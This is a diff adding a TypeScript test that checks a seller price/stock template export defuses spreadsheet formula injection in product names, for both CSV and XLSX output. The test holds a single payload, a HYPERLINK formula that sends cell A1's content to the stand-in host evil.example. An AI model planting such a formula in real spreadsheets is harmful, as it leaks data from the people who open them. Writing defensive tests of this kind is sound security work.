@@ -18,7 +18,15 @@ import {
 import type { AuthContext } from '~/server/auth/session.server'
 import type { Db } from '~/server/db/client.server'
 import { prices, productListings, skus, stockMovements, users } from '~/server/db/schema'
-import { createSeller, createSku, createStore, createUser, type SkuRow } from '../factories/create'
+import ExcelJS from 'exceljs'
+import {
+  createProduct,
+  createSeller,
+  createSku,
+  createStore,
+  createUser,
+  type SkuRow,
+} from '../factories/create'
 import { closeAuthTestDatabase, openAuthTestDatabase } from './auth-fixtures'
 import { authOf, errorOf, executableBytes, tempStorage } from './tickets-fixtures'
 
@@ -303,6 +311,40 @@ describe('price and stock import', () => {
         'checked',
         { read: 3, unchanged: 3, update: 0, errors: 0 },
       ])
+    }
+  })
+
+  it('a product named like a formula by another seller is defused in the sheet and round-trips', async () => {
+    const evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    const other = await createSeller(db)
+    const product = await createProduct(db, { name: evil, createdBySellerId: other.id })
+    const s = await sellerWithSkus(0)
+    await createSku(db, { store: s.store, product, remainingQuantity: 9 })
+    for (const kind of ['csv', 'xlsx'] as const) {
+      const chunks: Buffer[] = []
+      const out = new Writable({
+        write(chunk, _e, done) {
+          chunks.push(Buffer.from(chunk))
+          done()
+        },
+      })
+      await writeTemplate(db, s.seller.id, kind, out, { at: new Date() })
+      const bytes = Buffer.concat(chunks)
+      if (kind === 'csv') {
+        const text = bytes.toString('utf8')
+        expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`)
+        expect(text).not.toMatch(/,"?=HYPERLINK/)
+      } else {
+        const book = new ExcelJS.Workbook()
+        await book.xlsx.load(bytes as unknown as ArrayBuffer)
+        expect(book.worksheets[0]!.getRow(2).getCell(3).value).toBe(`'${evil}`)
+      }
+      const importId = await checked(s.auth, { name: `template.${kind}`, bytes })
+      expect((await getImport(db, s.auth, importId)).counts).toMatchObject({
+        read: 1,
+        unchanged: 1,
+        errors: 0,
+      })
     }
   })
 })
